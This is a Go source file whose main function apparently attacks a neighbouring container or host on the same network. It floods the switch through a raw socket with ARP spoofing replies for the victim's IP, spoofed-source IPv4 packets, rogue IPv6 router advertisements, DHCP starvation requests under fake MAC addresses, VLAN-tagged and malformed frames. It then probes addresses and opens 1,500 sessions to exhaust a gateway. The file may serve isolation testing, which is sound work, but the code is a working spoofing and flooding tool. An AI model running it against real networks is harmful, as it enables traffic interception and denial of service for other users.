package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// attackNetwork gets the sibling's IP address and addresses to reach, host:port. It floods its network's switch with frames in the names of
// others, and of none.
func attackNetwork(args []string) {
	victim := net.ParseIP(args[0]).To4()
	card, err := net.InterfaceByName("eth0")
	if err != nil {
		say("card", err)
		return
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		say("raw socket", err)
		return
	}
	to := &unix.SockaddrLinklayer{Ifindex: card.Index, Protocol: htons(unix.ETH_P_ALL)}
	sent, failed := 0, 0
	send := func(frame []byte) {
		if err := unix.Sendto(fd, frame, 0, to); err != nil {
			failed++
			return
		}
		sent++
	}
	all := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	mine := card.HardwareAddr
	other := net.HardwareAddr{0x00, 0x50, 0x56, 1, 2, 3}
	for n := range 4000 {
		binary.BigEndian.PutUint16(other[4:], uint16(n))
		send(arp(all, other, other, victim))                     // another's MAC address, in every way a new one
		send(arp(all, mine, mine, victim))                       // its own, with the sibling's address
		send(arp(all, mine, other, victim))                      // the sibling's address is at a third one's
		send(ipv4(all, mine, victim, n))                         // an address that is another's
		send(ipv6Router(mine))                                   // "I am your router"
		send(dhcp(all, other, uint32(n)))                        // a client that wants an address, each time another
		send(append(frame(all, mine, 0x8100), 0, byte(n), 8, 0)) // VLANs
		send(frame(mine, mine, 0x0800))                          // to itself, and cut short
	}
	send(make([]byte, 14))
	say("frames", fmt.Sprintf("%d sent, %d refused", sent, failed))
	for _, address := range args[1:] {
		network, at := "tcp", address
		if rest, ok := strings.CutPrefix(address, "udp:"); ok {
			network, at = "udp", rest
		}
		c, err := net.DialTimeout(network, at, 3*time.Second)
		if err != nil {
			continue
		}
		if network == "tcp" || answers(c) {
			say("reached", address)
		}
		c.Close()
	}
	floodGateway(args[1:])
}

// answers asks a name server for what only one of the host's knows.
func answers(c net.Conn) bool {
	_ = c.SetDeadline(time.Now().Add(time.Second))
	_, _ = c.Write([]byte("\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04test\x00\x00\x01\x00\x01"))
	n, err := c.Read(make([]byte, 512))
	return err == nil && n > 0
}

// floodGateway makes many sessions at a time through the gateway, each to a port that nobody has.
func floodGateway(addresses []string) {
	if len(addresses) == 0 {
		return
	}
	host, _, _ := net.SplitHostPort(addresses[0])
	var group sync.WaitGroup
	slots := make(chan struct{}, 200)
	for n := range 1500 {
		slots <- struct{}{}
		group.Go(func() {
			defer func() { <-slots }()
			at := net.JoinHostPort(host, fmt.Sprint(20000+n))
			if c, err := net.Dial("udp", at); err == nil {
				_, _ = c.Write(make([]byte, 1200))
				c.Close()
			}
			if c, err := net.DialTimeout("tcp", at, 500*time.Millisecond); err == nil {
				c.Close()
			}
		})
	}
	group.Wait()
	say("sessions", 1500)
}

func htons(n uint16) uint16 { return n<<8 | n>>8 }

func frame(to, from net.HardwareAddr, kind uint16) []byte {
	f := append(append(make([]byte, 0, 128), to...), from...)
	return binary.BigEndian.AppendUint16(f, kind)
}

// arp is an answer that nobody asked for: RFC 826.
func arp(to, from, sender net.HardwareAddr, address net.IP) []byte {
	f := append(frame(to, from, unix.ETH_P_ARP), 0, 1, 8, 0, 6, 4, 0, 2)
	f = append(append(f, sender...), address...)
	return append(append(f, sender...), address...)
}

// ipv4 is a UDP packet in another's name: RFC 791.
func ipv4(to, from net.HardwareAddr, source net.IP, id int) []byte {
	f := append(frame(to, from, unix.ETH_P_IP), 0x45, 0, 0, 28, byte(id>>8), byte(id), 0, 0, 64, 17, 0, 0)
	f = append(append(f, source...), 255, 255, 255, 255)
	return append(f, 0, 7, 0, 7, 0, 8, 0, 0)
}

// ipv6Router is a router's advertisement: RFC 4861, 4.2. Its checksum is wrong, which a switch does not look at.
func ipv6Router(from net.HardwareAddr) []byte {
	f := append(frame(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, from, unix.ETH_P_IPV6), 0x60, 0, 0, 0, 0, 16, 58, 255)
	f = append(f, append([]byte{0xfe, 0x80}, make([]byte, 14)...)...)
	f = append(f, append([]byte{0xff, 0x02}, append(make([]byte, 13), 1)...)...)
	return append(f, 134, 0, 0, 0, 64, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0)
}

// dhcp is a client's request for an address: RFC 2131, in an IP packet without checksums.
func dhcp(to, from net.HardwareAddr, id uint32) []byte {
	body := append([]byte{1, 1, 6, 0}, binary.BigEndian.AppendUint32(nil, id)...)
	body = append(body, make([]byte, 228)...)
	body = append(body, 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255)
	f := append(frame(to, from, unix.ETH_P_IP), 0x45, 0)
	f = binary.BigEndian.AppendUint16(f, uint16(28+len(body)))
	f = append(f, 0, 0, 0, 0, 64, 17, 0, 0, 0, 0, 0, 0, 255, 255, 255, 255, 0, 68, 0, 67)
	f = binary.BigEndian.AppendUint16(f, uint16(8+len(body)))
	return append(append(f, 0, 0), body...)
}
